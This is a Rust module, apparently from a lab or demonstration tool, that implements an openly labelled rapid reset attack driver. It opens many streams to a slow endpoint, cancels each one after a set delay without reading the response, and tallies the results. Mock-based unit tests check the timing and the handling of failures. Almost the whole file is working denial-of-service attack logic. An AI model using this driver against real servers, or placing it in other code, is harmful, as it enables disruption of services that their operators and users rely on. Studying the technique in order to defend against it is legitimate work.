//! Rapid reset attack driver.
//!
//! # Responsibilities
//! - Open `reset_count` streams against the slow endpoint, spaced by
//!   `inter_request_delay`
//! - Cancel each stream `reset_delay` after opening it, without waiting
//!   for (or reading) any response
//! - Report how many streams were issued and how many were cancelled
//!
//! Issuing and cancelling run independently: cancellation of stream `i`
//! may land before or after stream `i + 1` is opened.

use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::task::JoinSet;

use crate::client::transport::{InFlightStream, StreamTransport};
use crate::client::SLOW_PATH;
use crate::config::AttackConfig;

/// Outcome of one attack run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AttackSummary {
    /// Streams successfully opened.
    pub issued: u32,
    /// Streams that were still in flight when their cancellation fired.
    pub cancelled: u32,
    /// Streams that could not be opened at all.
    pub open_failures: u32,
}

#[derive(Debug, Clone)]
pub struct AttackDriver {
    reset_count: u32,
    inter_request_delay: Duration,
    reset_delay: Duration,
}

impl AttackDriver {
    pub fn new(config: &AttackConfig) -> Self {
        Self {
            reset_count: config.reset_count,
            inter_request_delay: config.inter_request_delay(),
            reset_delay: config.reset_delay(),
        }
    }

    /// Run the attack on `transport`. Returns after every scheduled
    /// cancellation has run.
    pub async fn run<T: StreamTransport>(&self, transport: &mut T) -> AttackSummary {
        tracing::info!(
            reset_count = self.reset_count,
            inter_request_delay_ms = self.inter_request_delay.as_millis() as u64,
            reset_delay_ms = self.reset_delay.as_millis() as u64,
            "Sending requests with immediate reset"
        );

        let cancelled = Arc::new(AtomicU32::new(0));
        let mut cancellations = JoinSet::new();
        let mut summary = AttackSummary::default();

        for i in 1..=self.reset_count {
            match transport.open_stream(SLOW_PATH).await {
                Ok(stream) => {
                    summary.issued += 1;
                    let cancelled = Arc::clone(&cancelled);
                    let reset_delay = self.reset_delay;
                    cancellations.spawn(async move {
                        tokio::time::sleep(reset_delay).await;
                        if stream.cancel() {
                            let total = cancelled.fetch_add(1, Ordering::Relaxed) + 1;
                            if total % 5 == 0 {
                                tracing::info!(reset_streams = total, "Reset streams");
                            }
                        }
                    });
                }
                Err(e) if e.is_session_error() => {
                    summary.open_failures += 1;
                    tracing::error!(stream = i, error = %e, "Session lost, stopping attack");
                    break;
                }
                Err(e) => {
                    summary.open_failures += 1;
                    tracing::warn!(stream = i, error = %e, "Rapid reset stream failed to open");
                }
            }

            tokio::time::sleep(self.inter_request_delay).await;
        }

        while let Some(joined) = cancellations.join_next().await {
            if let Err(e) = joined {
                tracing::warn!(error = %e, "Cancellation task failed");
            }
        }

        summary.cancelled = cancelled.load(Ordering::Relaxed);
        tracing::info!(
            issued = summary.issued,
            cancelled = summary.cancelled,
            open_failures = summary.open_failures,
            "Completed: streams reset"
        );
        summary
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::error::ClientError;
    use crate::client::transport::StreamResponse;
    use hyper::body::Bytes;
    use hyper::StatusCode;
    use std::future::Future;
    use std::sync::Mutex;
    use tokio::time::Instant;

    /// Records what happens to each stream; streams never get a response
    /// unless `finished_after` elapses before the cancel.
    #[derive(Default)]
    struct MockTransport {
        opened: Vec<Instant>,
        cancels: Arc<Mutex<Vec<(usize, Instant)>>>,
        finished_after: Option<Duration>,
        fail_every: Option<usize>,
        lost_at: Option<usize>,
    }

    struct MockStream {
        index: usize,
        opened_at: Instant,
        finished_after: Option<Duration>,
        cancels: Arc<Mutex<Vec<(usize, Instant)>>>,
    }

    impl StreamTransport for MockTransport {
        type Stream = MockStream;

        fn open_stream(
            &mut self,
            path: &str,
        ) -> impl Future<Output = Result<Self::Stream, ClientError>> + Send {
            assert_eq!(path, SLOW_PATH);
            let index = self.opened.len() + 1;
            self.opened.push(Instant::now());

            let lost = self.lost_at.is_some_and(|n| index >= n);
            let result = match self.fail_every {
                _ if lost => Err(ClientError::Connect {
                    addr: "localhost:3000".into(),
                    source: std::io::Error::from(std::io::ErrorKind::ConnectionReset),
                }),
                Some(n) if index % n == 0 => Err(ClientError::Timeout(Duration::ZERO)),
                _ => Ok(MockStream {
                    index,
                    opened_at: Instant::now(),
                    finished_after: self.finished_after,
                    cancels: Arc::clone(&self.cancels),
                }),
            };
            async move { result }
        }
    }

    impl InFlightStream for MockStream {
        fn cancel(self) -> bool {
            let still_open = match self.finished_after {
                Some(after) => self.opened_at.elapsed() < after,
                None => true,
            };
            if still_open {
                self.cancels.lock().unwrap().push((self.index, Instant::now()));
            }
            still_open
        }

        fn response(self) -> impl Future<Output = Result<StreamResponse, ClientError>> + Send {
            async move {
                Ok(StreamResponse {
                    status: StatusCode::OK,
                    body: Bytes::new(),
                })
            }
        }
    }

    fn driver(reset_count: u32, inter_ms: u64, reset_ms: u64) -> AttackDriver {
        AttackDriver::new(&AttackConfig {
            reset_count,
            inter_request_delay_ms: inter_ms,
            reset_delay_ms: reset_ms,
        })
    }

    #[tokio::test(start_paused = true)]
    async fn cancels_every_stream_after_reset_delay() {
        let mut transport = MockTransport::default();
        let summary = driver(50, 50, 50).run(&mut transport).await;

        assert_eq!(
            summary,
            AttackSummary {
                issued: 50,
                cancelled: 50,
                open_failures: 0
            }
        );

        let cancels = transport.cancels.lock().unwrap();
        assert_eq!(cancels.len(), 50);
        for (index, at) in cancels.iter() {
            let opened = transport.opened[index - 1];
            assert!(*at - opened >= Duration::from_millis(50));
        }
    }

    #[tokio::test(start_paused = true)]
    async fn issuing_does_not_wait_for_cancellations() {
        let mut transport = MockTransport::default();
        // Cancels land long after the last stream is issued.
        let summary = driver(10, 1, 1_000).run(&mut transport).await;

        assert_eq!(summary.cancelled, 10);
        let last_open = *transport.opened.last().unwrap();
        let first_open = transport.opened[0];
        assert!(last_open - first_open < Duration::from_millis(100));
    }

    #[tokio::test(start_paused = true)]
    async fn finished_streams_are_not_counted() {
        let mut transport = MockTransport {
            finished_after: Some(Duration::from_millis(10)),
            ..Default::default()
        };
        let summary = driver(5, 5, 50).run(&mut transport).await;

        assert_eq!(summary.issued, 5);
        assert_eq!(summary.cancelled, 0);
    }

    #[tokio::test(start_paused = true)]
    async fn open_failures_are_skipped() {
        let mut transport = MockTransport {
            fail_every: Some(3),
            ..Default::default()
        };
        let summary = driver(9, 1, 1).run(&mut transport).await;

        assert_eq!(transport.opened.len(), 9);
        assert_eq!(summary.open_failures, 3);
        assert_eq!(summary.issued, 6);
        assert_eq!(summary.cancelled, 6);
    }

    #[tokio::test(start_paused = true)]
    async fn lost_session_stops_issuing() {
        let mut transport = MockTransport {
            lost_at: Some(4),
            ..Default::default()
        };
        let summary = driver(50, 1, 1).run(&mut transport).await;

        assert_eq!(transport.opened.len(), 4);
        assert_eq!(
            summary,
            AttackSummary {
                issued: 3,
                cancelled: 3,
                open_failures: 1
            }
        );
    }

    #[tokio::test(start_paused = true)]
    async fn zero_count_does_nothing() {
        let mut transport = MockTransport::default();
        assert_eq!(driver(0, 50, 50).run(&mut transport).await, AttackSummary::default());
        assert!(transport.opened.is_empty());
    }
}
